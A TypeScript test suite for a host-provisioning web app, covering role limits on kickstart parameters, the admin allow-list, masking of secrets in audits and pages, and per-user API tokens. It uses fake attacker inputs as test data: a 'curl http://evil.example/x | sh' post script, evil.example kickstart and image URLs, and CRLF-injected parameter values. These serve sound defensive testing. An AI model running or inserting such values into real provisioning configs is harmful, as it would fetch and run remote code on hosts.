// Roles on every path (API tokens, rack CSV, web forms), parameters checked against the profile at
// save, the audit's masked before/after records, secrets masked for techs, per-user API tokens.
import { test, beforeEach, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createHash } from 'node:crypto';
import request from 'supertest';
import type { WebRouter } from '../../src/web/pages/index.ts';
import { createLogsApi } from '../../src/ops/routes.ts';
import { hashUserPasswordSync } from '../../src/store/users.ts';
import type { ApiTokenRepo, UserRepo } from '../../src/store/repo/users.ts';
import { usersCommand } from '../../src/web/users-cli.ts';
import { makeEnv, SAMPLE_HOST, type TestEnv } from '../support/core.ts';
import { apiTokenOf, appFor, loginForm, webRouterFor } from '../support/web-env.ts';
import type { Express } from 'express';
import type { Mac } from '../../src/net/mac.ts';
import type { ApiDocs } from '../../src/http/openapi.ts';

const PW = 'correct horse battery';
const HASH = hashUserPasswordSync(PW);
const ADMIN = 'shared-admin-token';
// A real-looking root hash: what must never reach a tech or the audit table.
const ROOT_HASH = '$6$Qw8xYz12abcdEFGH$' + 'A'.repeat(40) + 'b'.repeat(46);
const ACTIVATION = 'ak-secret-7f3a9c';

let env: TestEnv;
let web: WebRouter;
let app: Express;
let users: UserRepo;
let tokens: ApiTokenRepo;
let techToken: string;

beforeEach(async () => {
  env = await makeEnv();
  users = env.core.store.users;
  await users.add('alice', 'admin', HASH);
  await users.add('tom', 'tech', HASH);
  ({ tokens, token: techToken } = await apiTokenOf(env, 'tom'));
  web = webRouterFor(env);
  app = appFor(env, ADMIN, {
    routers: [web],
    userToken: (t) => tokens.authenticate(t),
    settings: env.core.store.settings,
    apiRouters: [
      (docs: ApiDocs) =>
        createLogsApi({ hosts: env.core.hosts, builds: env.core.builds, syslog: env.core.syslog, docs }),
    ],
  });
});
afterEach(async () => {
  web.close();
  await env.cleanup();
});

const as = (token: string) => ({ Authorization: `Bearer ${token}` });
const login = (name: string) => loginForm(app, name, PW);
const auditRows = () =>
  env.core.store.sql.all<{ actor: string; action: string; target: string; diff: string | null }>(
    'SELECT actor, action, target, diff FROM audit ORDER BY id',
  );
const hostBody = (params: Record<string, unknown>, mac = SAMPLE_HOST.mac, hostname = SAMPLE_HOST.hostname) => ({
  ...SAMPLE_HOST,
  mac,
  hostname,
  params,
});

test('a tech token cannot set post, rootPassword, satellite, stig, image or kernel args via the API: 403 naming the field, nothing written', async () => {
  const forbidden: Record<string, string>[] = [
    { post: 'curl http://evil.example/x | sh' },
    { rootPassword: ROOT_HASH },
    { 'satellite.server': 'evil.example' },
    { 'stig.enabled': 'false' },
    { 'image.liveimg': 'http://evil.example/hv.img' },
    { image: 'other' },
    { 'boot.kernelArgs': 'inst.ks=http://evil.example/ks' },
    { sshKeys: '[ssh-ed25519 AAAA x]' },
    { boot: '{}' },
    { 'timezone.name': 'UTC' },
  ];
  for (const params of forbidden) {
    const r = await request(app).post('/api/hosts').set(as(techToken)).send(hostBody(params));
    const key = Object.keys(params)[0];
    assert.equal(r.status, 403, `${key}: ${r.text}`);
    assert.ok(r.body.error.message.includes(`params.${key}:`), r.body.error.message);
    assert.match(r.body.error.message, /tech role/);
    assert.equal(r.body.error.code, 'forbidden');
    assert.equal(r.body.error.field, `params.${key}`);
  }
  assert.match(
    (
      await request(app)
        .post('/api/hosts')
        .set(as(techToken))
        .send(hostBody({ post: 'x' }))
    ).body.error.message,
    /can never set/,
  );
  assert.equal((await env.core.hosts.list()).length, 0);
  assert.equal((await auditRows()).length, 0);

  // Without parameters a tech may add a host, build it, cancel it; deleting needs an admin.
  assert.equal((await request(app).post('/api/hosts').set(as(techToken)).send(hostBody({}))).status, 201);
  assert.equal((await request(app).post(`/api/hosts/${SAMPLE_HOST.mac}/build`).set(as(techToken))).status, 201);
  assert.equal((await request(app).delete(`/api/hosts/${SAMPLE_HOST.mac}/build`).set(as(techToken))).status, 200);
  const del = await request(app).delete(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(techToken));
  assert.equal(del.status, 403);
  assert.match(del.body.error.message, /admin role/);
  assert.deepEqual(
    (await auditRows()).map((a) => a.actor),
    ['api:tom', 'api:tom', 'api:tom'],
    'the audit names the person, not "api"',
  );

  // A tech cannot drop or change an admin's parameter either (PUT), but may change what the admin allowed.
  assert.equal(
    (
      await request(app)
        .put(`/api/hosts/${SAMPLE_HOST.mac}`)
        .set(as(ADMIN))
        .send({ params: { 'stig.enabled': 'true' } })
    ).status,
    200,
  );
  const drop = await request(app).put(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(techToken)).send({ params: {} });
  assert.equal(drop.status, 403);
  assert.match(drop.body.error.message, /params\.stig\.enabled/);
  const ka = await request(app)
    .put(`/api/hosts/${SAMPLE_HOST.mac}`)
    .set(as(techToken))
    .send({ params: { 'stig.enabled': 'true', 'boot.kernelArgs': 'x' } });
  assert.equal(ka.status, 403);
  assert.deepEqual((await env.core.hosts.get(SAMPLE_HOST.mac as Mac))!.params, { 'stig.enabled': 'true' });
  assert.equal(
    (await request(app).put(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(techToken)).send({ rack: 'R9' })).status,
    200,
    'other fields: fine',
  );
  const move = await request(app)
    .put(`/api/hosts/${SAMPLE_HOST.mac}`)
    .set(as(techToken))
    .send({ profile: 'rhvh-custom-thin' });
  assert.equal(move.status, 403);
  assert.match(move.body.error.message, /^profile: the tech role may not move rhvh01/);
  assert.equal((await env.core.hosts.get(SAMPLE_HOST.mac as Mac))!.profile, 'rhvh-base');
});

test('the admin allow-list opens harmless parameters to techs, never the forbidden ones; only an admin changes it', async () => {
  const tech = await request(app)
    .put('/api/settings/tech-params')
    .set(as(techToken))
    .send({ techParams: ['timezone.name'] });
  assert.equal(tech.status, 403);
  for (const bad of [
    ['post'],
    ['satellite.org'],
    ['boot'],
    ['imageX'],
    ['boot.kernelArgs'],
    ['nosuch.field'],
    ['timezone.name\r\npost'],
    ['timezone.name\u2028'],
    [7],
    'timezone.name',
    [{}],
    Array(65).fill('lang'),
  ]) {
    const r = await request(app).put('/api/settings/tech-params').set(as(ADMIN)).send({ techParams: bad });
    assert.equal(r.status, 400, JSON.stringify(bad).slice(0, 80));
    assert.match(r.body.error.message, /techParams/);
  }
  assert.match(
    (
      await request(app)
        .put('/api/settings/tech-params')
        .set(as(ADMIN))
        .send({ techParams: ['post'] })
    ).body.error.message,
    /can never be opened to techs/,
  );
  assert.deepEqual(await env.core.store.settings.techParams(), [], 'nothing changed');

  const ok = await request(app)
    .put('/api/settings/tech-params')
    .set(as(ADMIN))
    .send({ techParams: ['timezone.name', 'ntpServers'] });
  assert.equal(ok.status, 200);
  assert.deepEqual((await request(app).get('/api/settings/tech-params').set(as(techToken))).body.techParams, [
    'timezone.name',
    'ntpServers',
  ]);
  assert.equal(
    (
      await request(app)
        .post('/api/hosts')
        .set(as(techToken))
        .send(hostBody({ 'timezone.name': 'America/Phoenix', ntpServers: '[ntp1.example.com]' }))
    ).status,
    201,
  );
  const still = await request(app)
    .post('/api/hosts')
    .set(as(techToken))
    .send(hostBody({ 'timezone.name': 'UTC', post: 'x' }, '52:54:00:aa:bb:02', 'rhvh02'));
  assert.equal(still.status, 403);
  assert.match(still.body.error.message, /params\.post/);
  const setting = (await auditRows()).find((a) => a.action === 'settings.tech-params')!;
  assert.deepEqual(JSON.parse(setting.diff!), {
    before: { techParams: [] },
    after: { techParams: ['timezone.name', 'ntpServers'] },
  });
});

test("rack CSV: a tech's param.post column is refused 403 naming the field and line; nothing imported", async () => {
  const csv = `mac,hostname,profile,param.post\n52:54:00:aa:bb:01,rhvh01,rhvh-base,\n52:54:00:aa:bb:02,rhvh02,rhvh-base,curl http://evil.example | sh\n`;
  const r = await request(app).post('/api/hosts/import').set(as(techToken)).type('text/csv').send(csv);
  assert.equal(r.status, 403, r.text);
  assert.ok(
    r.body.error.problems.some((p: string) => p.startsWith('line 3: param.post:')),
    JSON.stringify(r.body.error.problems),
  );
  assert.equal((await env.core.hosts.list()).length, 0);

  // The web import of a tech: the same rule, the page names the field.
  const { agent, csrf } = await login('tom');
  const page = await agent.post('/hosts/import').type('form').send({ _csrf: csrf, csv, action: 'import' });
  assert.equal(page.status, 403);
  assert.match(page.text, /param\.post: the tech role can never set this parameter/);
  assert.equal((await env.core.hosts.list()).length, 0);

  // An admin may import it; a row without params imports for a tech.
  assert.equal((await request(app).post('/api/hosts/import').set(as(ADMIN)).type('text/csv').send(csv)).status, 201);
  assert.equal((await env.core.hosts.get('52:54:00:aa:bb:02' as Mac))!.params.post, 'curl http://evil.example | sh');
  const plain = await request(app)
    .post('/api/hosts/import')
    .set(as(techToken))
    .type('text/csv')
    .send('mac,hostname,profile\n52:54:00:aa:bb:03,rhvh03,rhvh-base\n');
  assert.equal(plain.status, 201);
  const imp = (await auditRows()).filter((a) => a.action === 'host.import');
  assert.deepEqual(
    imp.map((a) => a.actor),
    ['api', 'api:tom'],
  );
  assert.equal(
    JSON.parse(imp[0].diff!).after[1].params.post,
    'curl http://evil.example | sh',
    'the import records whole hosts, parameters included',
  );
});

test('parameters are checked against the profile when saved: a misspelt or invalid one is refused naming it (API, CSV, form)', async () => {
  const cases: [Record<string, unknown>, RegExp][] = [
    [{ 'timezon.name': 'UTC' }, /params\.timezon\.name: not a field of the profile/],
    [{ 'timezone.nmae': 'UTC' }, /params\.timezone\.nmae: not a field of the profile/],
    [
      { 'timezone.name': 'Not A Zone' },
      /params\.timezone\.name: does not fit profile rhvh-base: must be a tz database name/,
    ],
    [{ 'timezone.name': 'UTC\r\nrootpw --plaintext x' }, /params\.timezone\.name:/],
    [{ 'timezone.name': 'UTC\u2028x' }, /params\.timezone\.name:/],
    [{ 'timezone.utc': 'sometimes' }, /params\.timezone\.utc:/],
    [{ 'network.mode': 'carrier-pigeon' }, /params\.network\.mode:/],
    [{ ['x'.repeat(5000)]: '1' }, /params\.x{20}/],
    [{ timezone: { name: 'UTC' } }, /params\.timezone:/],
  ];
  for (const [params, want] of cases) {
    const r = await request(app).post('/api/hosts').set(as(ADMIN)).send(hostBody(params));
    // 422: the record's own grammar (src/hosts/input.ts) refused it first; 400: the profile schema did. Both name the field.
    assert.ok(
      r.status === 400 || r.status === 422,
      `${JSON.stringify(params).slice(0, 60)}: ${r.status} ${r.text.slice(0, 200)}`,
    );
    assert.match(r.body.error.message, want);
  }
  assert.equal((await env.core.hosts.list()).length, 0);
  assert.equal(
    (
      await request(app)
        .post('/api/hosts')
        .set(as(ADMIN))
        .send(hostBody({ 'timezone.name': 'America/Phoenix' }))
    ).status,
    201,
  );
  // PUT that moves the host to a profile the parameter does not fit is refused too.
  const put = await request(app)
    .put(`/api/hosts/${SAMPLE_HOST.mac}`)
    .set(as(ADMIN))
    .send({ params: { 'timezone.name': 'America/Phoenix', 'satellite.org': 'x' } });
  assert.equal(put.status, 400);
  assert.match(put.body.error.message, /params\.satellite\.org/);

  const csv = await request(app)
    .post('/api/hosts/import')
    .set(as(ADMIN))
    .type('text/csv')
    .send('mac,hostname,profile,param.timezon.name\n52:54:00:aa:bb:07,rhvh07,rhvh-base,UTC\n');
  assert.equal(csv.status, 422);
  assert.match(csv.body.error.problems.join('\n'), /line 2: param\.timezon\.name: not a field of the profile/);

  const { agent, csrf } = await login('alice');
  const form = await agent.post('/hosts').type('form').send({
    _csrf: csrf,
    mac: '52:54:00:aa:bb:08',
    hostname: 'rhvh08',
    profile: 'rhvh-base',
    params: 'timezon.name = UTC',
  });
  assert.equal(form.status, 400);
  assert.match(form.text, /params\.timezon\.name: not a field of the profile/);
  assert.equal(await env.core.hosts.get('52:54:00:aa:bb:08' as Mac), undefined);
  // The kickstart of the saved host still renders: nothing invalid got in.
  assert.ok((await env.core.provisioner.preview(SAMPLE_HOST.mac as Mac, 'kickstart', { maskSecrets: true })).ok);
});

test('audit: whole host records before and after, parameters included, secrets masked; profile edits masked too', async () => {
  assert.equal(
    (
      await request(app)
        .post('/api/hosts')
        .set(as(ADMIN))
        .send(hostBody({ 'timezone.name': 'UTC' }))
    ).status,
    201,
  );
  const put = await request(app)
    .put(`/api/hosts/${SAMPLE_HOST.mac}`)
    .set(as(ADMIN))
    .send({ rack: 'R2', params: { 'timezone.name': 'America/Phoenix', rootPassword: ROOT_HASH } });
  assert.equal(put.status, 200, put.text);
  assert.equal((await request(app).delete(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(ADMIN))).status, 204);
  const rows = await auditRows();
  assert.deepEqual(
    rows.map((r) => r.action),
    ['host.create', 'host.update', 'host.delete'],
  );
  const [create, update, del] = rows.map((r) => JSON.parse(r.diff!));
  assert.deepEqual(create.after.params, { 'timezone.name': 'UTC' });
  assert.equal(create.before, undefined);
  assert.equal(update.before.rack, 'R1');
  assert.equal(update.after.rack, 'R2');
  assert.equal(update.before.hostname, 'rhvh01', 'unchanged fields are in the record too');
  assert.deepEqual(update.after.params, { 'timezone.name': 'America/Phoenix', rootPassword: '********' });
  assert.equal(del.before.params.rootPassword, '********');
  assert.ok(!JSON.stringify(rows).includes(ROOT_HASH), 'the root hash is nowhere in the audit table');

  // A profile edit through the editor: the activation key changes; the diff says so without showing either value.
  const { agent, csrf } = await login('alice');
  const file = join(env.config.profilesDir, 'rhvh-stig-satellite.yaml');
  const before = readFileSync(file, 'utf8');
  const after = before.replace('activationKey: rhvh-hosts', `activationKey: ${ACTIVATION}`);
  const saved = await agent
    .post('/profiles/rhvh-stig-satellite')
    .type('form')
    .send({ _csrf: csrf, text: after, base: before, action: 'save' });
  assert.equal(saved.status, 303, saved.text.slice(0, 500));
  const edit = (await auditRows()).find((r) => r.action === 'profile.update')!;
  assert.ok(!edit.diff!.includes(ACTIVATION) && !edit.diff!.includes('rhvh-hosts'), edit.diff!);
  const unified = JSON.parse(edit.diff!).unified as string;
  assert.match(unified, /^-\s+activationKey: \*{8}/m);
  assert.match(unified, /^\+\s+activationKey: \*{8} \(changed\)/m);
  assert.ok(
    !unified.includes(ROOT_HASH.slice(0, 10)) && !unified.includes('$6$f3jJz'),
    'the inherited root hash of the base is not in the diff either',
  );

  // The audit page, for a tech: the old-style entry written before masking existed is masked when shown.
  await env.core.store.sql.run('INSERT INTO audit (at, actor, action, target, diff) VALUES (?, ?, ?, ?, ?)', [
    Date.now(),
    'api',
    'host.update',
    SAMPLE_HOST.mac,
    JSON.stringify({ params: { from: {}, to: { rootPassword: ROOT_HASH, 'satellite.activationKey': ACTIVATION } } }),
  ]);
  const { agent: t } = await login('tom');
  const page = await t.get('/audit');
  assert.equal(page.status, 200);
  assert.ok(!page.text.includes(ROOT_HASH) && !page.text.includes(ACTIVATION), 'no secret on the audit page');
  assert.match(page.text, /rack<\/th><td class="del">R1<\/td><td aria-hidden="true">→<\/td><td class="add">R2/);
  assert.match(page.text, /params\.rootPassword/);
});

test('a tech sees secrets masked on the profile page, the parameter table, the failure log, the timeline and the API', async () => {
  await env.core.hosts.insert({
    ...SAMPLE_HOST,
    mac: SAMPLE_HOST.mac as Mac,
    profile: 'rhvh-stig-satellite',
    nameservers: [],
    params: { 'satellite.activationKey': ACTIVATION },
  });
  const started = await env.core.provisioner.startBuild(SAMPLE_HOST.mac as Mac, 'test');
  assert.ok(started.ok, started.ok ? '' : started.message);
  await env.core.provisioner.callback(
    started.value.token,
    'failed',
    '10.99.0.11',
    `subscription-manager register --org Example_Org --activationkey ${ACTIVATION}\nerror: 401`,
  );
  const baseHash = /rootPassword: '([^']+)'/.exec(
    readFileSync(join(env.config.profilesDir, 'rhvh-base.yaml'), 'utf8'),
  )![1];

  const { agent: tom } = await login('tom');
  const prof = await tom.get('/profiles/rhvh-base');
  assert.equal(prof.status, 200);
  assert.ok(!prof.text.includes(baseHash.slice(0, 20)), 'root hash masked on the profile page');
  assert.match(prof.text, /rootPassword: (&#39;)?\*{8}/);
  const sat = await tom.get('/profiles/rhvh-stig-satellite');
  assert.match(sat.text, /activationKey: \*{8}/);
  assert.ok(!sat.text.includes('rhvh-hosts'));
  const host = await tom.get(`/hosts/${SAMPLE_HOST.mac}`);
  assert.equal(host.status, 200);
  assert.ok(
    !host.text.includes(ACTIVATION),
    'activation key masked on the host page (parameters, failure log, previews)',
  );
  assert.match(host.text, /satellite\.activationKey<\/code><\/td><td><code>\*{8}/);
  assert.match(host.text, /--activationkey \*{8}/);

  // An admin sees the file as it is (they edit it) and the log as it came.
  const { agent: alice } = await login('alice');
  assert.ok((await alice.get('/profiles/rhvh-base')).text.includes(baseHash.slice(0, 20)));
  assert.ok((await alice.get(`/hosts/${SAMPLE_HOST.mac}`)).text.includes(ACTIVATION));

  // The API for a tech's token: parameters and the failure log masked; the shared admin token sees them.
  const view = await request(app).get(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(techToken));
  assert.equal(view.status, 200);
  assert.ok(!JSON.stringify(view.body).includes(ACTIVATION), JSON.stringify(view.body).slice(0, 300));
  assert.equal(
    view.body.host?.params?.['satellite.activationKey'] ?? view.body.params?.['satellite.activationKey'],
    '********',
  );
  const ks = await request(app).get(`/api/hosts/${SAMPLE_HOST.mac}/render/kickstart`).set(as(techToken));
  assert.equal(ks.status, 200);
  assert.ok(!ks.text.includes(ACTIVATION) && !ks.text.includes(baseHash), 'the rendered kickstart is masked');
  const list = await request(app).get('/api/hosts').set(as(techToken));
  assert.ok(!JSON.stringify(list.body).includes(ACTIVATION));
  const logs = await request(app)
    .get(`/api/hosts/${SAMPLE_HOST.mac}/builds/${started.value.buildId}/logs`)
    .set(as(techToken));
  assert.equal(logs.status, 200);
  assert.match(logs.body.failureLog, /--activationkey \*{8}/);
  const adminView = await request(app)
    .get(`/api/hosts/${SAMPLE_HOST.mac}/builds/${started.value.buildId}/logs`)
    .set(as(ADMIN));
  assert.ok(adminView.body.failureLog.includes(ACTIVATION));
});

test('per-user API tokens: CLI and account page create (shown once, hashed), the role of the user, listed, revoked; the shared token keeps working', async () => {
  const out: string[] = [];
  const err: string[] = [];
  const io = { out: (s: string) => out.push(s), err: (s: string) => err.push(s), readStdin: async () => '' };
  assert.equal(await usersCommand(env.config, io, ['token', 'alice'], {}), 0, err.join('\n'));
  const aliceToken = out.pop()!;
  assert.match(aliceToken, /^rbt_[A-Za-z0-9_-]{43}$/);
  const stored = await env.core.store.sql.all<{ token_hash: string; prefix: string }>(
    'SELECT token_hash, prefix FROM api_tokens',
  );
  assert.ok(!JSON.stringify(stored).includes(aliceToken.slice(12)), 'only a hash and the prefix are stored');
  assert.ok(stored.some((s) => s.token_hash === createHash('sha256').update(aliceToken).digest('hex')));
  assert.equal(await usersCommand(env.config, io, ['token', 'nobody'], {}), 1);

  // alice's token is an admin: it deletes; the audit names alice.
  await env.core.hosts.insert({ ...SAMPLE_HOST, mac: SAMPLE_HOST.mac as Mac, nameservers: [], params: {} });
  assert.equal((await request(app).delete(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(aliceToken))).status, 204);
  assert.equal((await auditRows()).at(-1)!.actor, 'api:alice');
  assert.equal(await usersCommand(env.config, io, ['tokens', 'alice'], {}), 0);
  assert.match(
    out.at(-1)!,
    new RegExp(`^rbt_${aliceToken.slice(4, 12)}…\\t\\d{4}-.*\\t\\d{4}-`),
    'listed with prefix, created and last used',
  );
  assert.equal(await usersCommand(env.config, io, ['revoke-token', 'alice', aliceToken.slice(4, 12)], {}), 0);
  assert.equal((await request(app).get('/api/hosts').set(as(aliceToken))).status, 401, 'revoked');

  // The account page: create one, see it once, use it, revoke it.
  const { agent, csrf } = await login('tom');
  const made = await agent.post('/account/tokens').type('form').send({ _csrf: csrf });
  assert.equal(made.status, 201);
  const shown = /<pre class="token">(rbt_[A-Za-z0-9_-]{43})<\/pre>/.exec(made.text)?.[1];
  assert.ok(shown, 'the new token is on the page');
  const again = await agent.get('/account');
  assert.ok(!again.text.includes(shown!), 'shown once only');
  assert.ok(again.text.includes(`rbt_${shown!.slice(4, 12)}…`), 'listed by prefix');
  assert.equal((await request(app).get('/api/hosts').set(as(shown!))).status, 200);
  assert.equal(
    (await request(app).put('/api/settings/tech-params').set(as(shown!)).send({ techParams: [] })).status,
    403,
    "the tech's token has the tech role",
  );
  const noCsrf = await agent
    .post(`/account/tokens/${shown!.slice(4, 12)}/revoke`)
    .type('form')
    .send({});
  assert.equal(noCsrf.status, 403);
  assert.equal(
    (
      await agent
        .post(`/account/tokens/${shown!.slice(4, 12)}/revoke`)
        .type('form')
        .send({ _csrf: csrf })
    ).status,
    303,
  );
  assert.equal((await request(app).get('/api/hosts').set(as(shown!))).status, 401);

  // An admin revokes all of a user's tokens on the Users page.
  const second = await tokens.create((await users.get('tom'))!);
  assert.ok(!('error' in second));
  const { agent: alice, csrf: ac } = await login('alice');
  const usersPage = await alice.get('/users');
  assert.ok(usersPage.text.includes(`rbt_${second.token.slice(4, 12)}…`));
  assert.ok(!usersPage.text.includes(second.token), 'the users page lists prefixes only');
  assert.equal((await alice.post('/users/tom').type('form').send({ _csrf: ac, action: 'revoke-tokens' })).status, 303);
  assert.equal((await request(app).get('/api/hosts').set(as(second.token))).status, 401);
  assert.equal((await request(app).get('/api/hosts').set(as(techToken))).status, 401);
  techToken = ((await tokens.create((await users.get('tom'))!)) as { token: string }).token;

  // A disabled user's tokens stop at once; the shared admin token is unaffected; garbage is 401.
  assert.equal((await request(app).get('/api/hosts').set(as(techToken))).status, 200);
  await users.setDisabled('tom', true);
  assert.equal((await request(app).get('/api/hosts').set(as(techToken))).status, 401);
  assert.equal((await request(app).get('/api/hosts').set(as(ADMIN))).status, 200);
  for (const bad of [
    '',
    'rbt_',
    `rbt_${'A'.repeat(43)}`,
    'x'.repeat(10_000),
    `${techToken}\r\n`,
    'rbt_\u2028'.padEnd(47, 'a'),
  ]) {
    assert.equal(
      (
        await request(app)
          .get('/api/hosts')
          .set('Authorization', `Bearer ${bad}`.replace(/[\r\n\u2028]/g, ''))
      ).status,
      401,
      bad.slice(0, 20),
    );
  }
  assert.ok((await auditRows()).some((a) => a.action === 'user.token.create' && a.actor === 'web:tom'));
  assert.ok((await auditRows()).some((a) => a.action === 'user.token.revoke' && a.actor === 'cli'));
  assert.ok(!JSON.stringify(await auditRows()).includes(shown!), 'no token text in the audit log');
});

test('Settings page: an admin edits the tech allow-list (bad entries refused naming them, nothing changed); a tech cannot', async () => {
  const { agent: tom, csrf: tc } = await login('tom');
  assert.equal((await tom.get('/settings')).status, 403);
  assert.equal((await tom.post('/settings').type('form').send({ _csrf: tc, techParams: 'timezone.name' })).status, 403);
  const { agent, csrf } = await login('alice');
  const page = await agent.get('/settings');
  assert.equal(page.status, 200);
  assert.match(page.text, /Never open to techs/);
  for (const bad of [
    'post',
    'timezone.name\nsatellite.server',
    'timezone.name\u0000',
    'lang\u2029',
    'x'.repeat(200),
    'image.kernel',
  ]) {
    const r = await agent.post('/settings').type('form').send({ _csrf: csrf, techParams: bad });
    assert.equal(r.status, 400, JSON.stringify(bad).slice(0, 40));
    assert.match(r.text, /Nothing was changed: techParams\[\d\]/);
  }
  assert.equal((await agent.post('/settings').type('form').send({ techParams: 'lang' })).status, 403, 'CSRF');
  assert.deepEqual(await env.core.store.settings.techParams(), []);
  const ok = await agent
    .post('/settings')
    .type('form')
    .send({ _csrf: csrf, techParams: 'timezone.name\r\nntpServers\r\n' });
  assert.equal(ok.status, 303);
  assert.deepEqual(await env.core.store.settings.techParams(), ['timezone.name', 'ntpServers']);
  assert.equal((await auditRows()).at(-1)!.actor, 'web:alice');
  const imp = await tom.post('/hosts/import').type('form').send({
    _csrf: tc,
    csv: 'mac,hostname,profile,param.timezone.name\n52:54:00:aa:bb:0a,new2,rhvh-base,America/Phoenix\n',
    action: 'import',
  });
  assert.equal(imp.status, 303, 'an allowed parameter imports for a tech');
  assert.equal((await env.core.hosts.get('52:54:00:aa:bb:0a' as Mac))!.params['timezone.name'], 'America/Phoenix');
});

test('rackboot hosts import (CLI) checks parameters against the profile too', async () => {
  const { runCli } = await import('../../src/cli.ts');
  const { writeFileSync } = await import('node:fs');
  const file = join(env.dir, 'rack.csv');
  writeFileSync(file, 'mac,hostname,profile,param.timezon.name\n52:54:00:aa:bb:0c,rhvh12,rhvh-base,UTC\n');
  const err: string[] = [];
  const io = { out: () => {}, err: (s: string) => err.push(s), readStdin: async () => '', env: {} };
  const flags = [
    '--data-dir',
    env.config.dataDir,
    '--profiles-dir',
    env.config.profilesDir,
    '--tftp-root',
    env.config.tftpRoot,
    '--images-dir',
    env.config.imagesDir,
  ];
  assert.equal(await runCli(['hosts', 'import', file, ...flags], io), 1);
  assert.match(err.join('\n'), /line 2: param\.timezon\.name: not a field of the profile/);
  assert.equal((await env.core.hosts.list()).length, 0);
});
